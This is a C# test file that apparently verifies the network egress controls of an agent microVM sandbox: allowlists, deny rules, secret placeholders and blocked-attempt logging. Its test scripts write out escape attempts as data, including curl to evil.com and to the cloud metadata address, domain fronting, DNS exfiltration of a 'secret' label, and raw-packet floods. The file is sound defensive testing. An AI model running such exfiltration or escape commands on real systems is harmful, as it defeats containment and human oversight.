using AgentOS.Egress.Tests.Laboratory;
using AgentOS.Egress.Tests.Secrets;

namespace AgentOS.Egress.Tests.Machines;

/// <summary>What a microVM reaches. Its programs are root in a kernel of their own, so they may try anything; real guests, a real internet.</summary>
public sealed class VmNetworkTests(Internet internet)
{
    [Fact]
    public async Task None_is_none()
    {
        await using VmHost host = await VmHost.MakeAsync(internet);
        string id = await host.CreateAsync();
        Attempt attempt = await host.TryAsync(id, $"""
            ls /sys/class/net
            try name getent hosts ok.com
            try address curl -sS --max-time 5 http://{Internet.Ok4}/
            try six curl -sS --max-time 5 -g 'http://[{Internet.Ok6}]/'
            try dns python3 -c 'import socket; s=socket.socket(2,2); s.sendto(b"x", ("8.8.8.8", 53))'
            """);
        attempt.SentNothing().Printed("lo\n").DidNotPrint("name=0", "address=0", "six=0", "dns=0", "eth");
        Assert.Empty(attempt.Events);
    }

    [Fact]
    public async Task An_allowed_name_is_reached_and_nothing_else()
    {
        await using VmHost host = await VmHost.MakeAsync(internet);
        string id = await host.CreateAsync("--allow", "ok.com", "--allow", "ok.com:9000 raw");
        Attempt attempt = await host.TryAsync(id, $"""
            ls /sys/class/net
            try secure curl -sS --max-time 25 --cacert /lab/ca.pem https://ok.com/
            try clear curl -sS --max-time 25 http://ok.com/
            try clear6 curl -6 -sS --max-time 25 http://ok.com/
            try proxied curl -sS --max-time 25 -x http://127.0.0.1:3128 --cacert /lab/ca.pem https://ok.com/
            try other curl -sS --max-time 10 --cacert /lab/ca.pem https://evil.com/
            try told curl -sS --max-time 10 -x http://127.0.0.1:3128 http://evil.com/
            try address curl -sS --max-time 10 http://{Internet.Evil4}/
            try address6 curl -sS --max-time 10 -g 'http://[{Internet.Evil6}]/'
            try metadata curl -sS --max-time 10 http://169.254.169.254/
            try loopback curl -sS --max-time 10 http://192.168.77.1/
            try front curl -sS --max-time 10 --cacert /lab/ca.pem --connect-to evil.com:443:ok.com:443 https://evil.com/
            try resolver timeout 5 getent hosts evil.com
            try server python3 -c 'import socket; s=socket.socket(2,2); s.settimeout(3); s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x03com\x00\x00\x01\x00\x01", ("8.8.8.8", 53)); print(len(s.recv(512)))'
            """);
        attempt.ReachedOnlyOk()
            .Printed("secure=0 hello from ok.com", "clear=0 hello from ok.com", "clear6=0 hello from ok.com", "proxied=0 hello from ok.com", "server=0")
            .DidNotPrint("other=0", "front=0", "resolver=0", "hello from evil", "eth")
            .Recorded("no-rule", "evil.com").Recorded("literal", Internet.Evil4).Recorded("literal", $"[{Internet.Evil6}]").Recorded("reserved", "169.254.169.254").Recorded("reserved", "192.168.77.1").Recorded("sni-mismatch", "ok.com");
    }

    [Fact]
    public async Task Its_root_may_send_any_packet_and_none_gets_anywhere()
    {
        await using VmHost host = await VmHost.MakeAsync(internet);
        string id = await host.CreateAsync("--allow", "ok.com");
        Attempt attempt = await host.TryAsync(id, $"""
            try datagram python3 -c 'import socket; s=socket.socket(2,2); s.sendto(b"x", ("{Internet.Ok4}", 443)); s.sendto(b"x", ("{Internet.Ok4}", 123))'
            try raw python3 -c 'import socket; s=socket.socket(2,3,255); s.setsockopt(0,3,1); [s.sendto(bytes.fromhex("45000014000020004011000001020304")+socket.inet_aton("{Internet.Ok4}"), ("{Internet.Ok4}", 0)) for _ in range(1000)]; print("sent")'
            try frames python3 -c 'import socket; s=socket.socket(17,3,0x300); s.bind(("lo",0)); [s.send(bytes(12)+b"\x08\x06"+bytes(46)) for _ in range(1000)]; print("sent")'
            try six python3 -c 'import socket; s=socket.socket(10,3,58); s.sendto(b"\x86\0"+bytes(14), ("ff02::1", 0, 0, 1)); print("sent")'
            ip route del local default dev lo table local; ip link add x0 type dummy; ip addr add 45.45.45.1/24 dev lo
            try without curl -sS --max-time 10 --connect-to ::{Internet.Ok4}:80 http://ok.com/
            """);
        attempt.SentNothing().Printed("raw=0 sent", "frames=0 sent").DidNotPrint("hello from");
    }

    [Fact]
    public async Task Rules_change_while_it_runs()
    {
        await using VmHost host = await VmHost.MakeAsync(internet);
        string id = await host.CreateAsync("--allow", "www.ok.com");
        string agent = await host.AgentOfAsync(id);
        (await host.TryAsync(id, "try before curl -sS --max-time 10 http://ok.com/")).SentNothing().DidNotPrint("before=0");
        Assert.Equal(0, (await host.CommandAsync("net", agent, "allow", "ok.com")).ExitCode);
        Assert.Equal(0, (await host.CommandAsync("net", agent, "allow", "ok.com:8080 raw")).ExitCode);
        (await host.TryAsync(id, "try after curl -sS --max-time 20 http://ok.com/; try port curl -sS --max-time 20 http://ok.com:8080/")).ReachedOnlyOk().Printed("after=0 hello from ok.com", "port=0");
        Assert.Equal(0, (await host.CommandAsync("net", agent, "deny", "ok.com")).ExitCode);
        (await host.TryAsync(id, "try denied curl -sS --max-time 10 http://ok.com/")).SentNothing().DidNotPrint("denied=0").Recorded("deny-rule", "ok.com");
    }

    [Fact]
    public async Task A_secret_is_a_placeholder_inside_and_itself_at_its_host()
    {
        await using VmHost host = await VmHost.MakeAsync(internet, await SecretHost.MakeAsync(internet));
        string id = await host.CreateAsync("--allow", "ok.com", "--secret", "TOKEN=vault:own@ok.com:bearer");
        Attempt attempt = await host.TryAsync(id, "curl -sS --max-time 25 -H \"Authorization: Bearer $TOKEN\" https://ok.com/headers; echo token=$TOKEN");
        attempt.ReachedOnlyOk().DidNotPrint(SecretHost.Canary).Printed("Authorization: Bearer AGENTOS", "token=AGENTOS");
        Assert.Contains(attempt.Seen.Hits, hit => hit.Contains($"Authorization: Bearer {SecretHost.Canary}", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_run_in_a_machine_reaches_what_it_was_allowed_and_nothing_else()
    {
        await using VmHost host = await VmHost.MakeAsync(internet);
        Attempt attempt = await host.RunAsync(["--allow", "ok.com"], "try good curl -sS --max-time 20 http://ok.com/; try bad curl -sS --max-time 10 http://evil.com/");
        attempt.ReachedOnlyOk().Printed("good=0 hello from ok.com").DidNotPrint("bad=0").Recorded("no-rule", "evil.com");
    }

    [Fact]
    public async Task Allow_all_is_every_public_name_and_no_private_address()
    {
        await using VmHost host = await VmHost.MakeAsync(internet);
        string id = await host.CreateAsync("--network", "allow_all", "--deny", "evil.com");
        Attempt attempt = await host.TryAsync(id, "try good curl -sS --max-time 20 http://ok.com/; try denied curl -sS --max-time 10 http://evil.com/; try metadata curl -sSf --max-time 10 http://169.254.169.254/");
        attempt.ReachedOnlyOk().Printed("good=0 hello from ok.com").DidNotPrint("denied=0", "metadata=0").Recorded("deny-rule", "evil.com").Recorded("reserved", "169.254.169.254");
    }
}
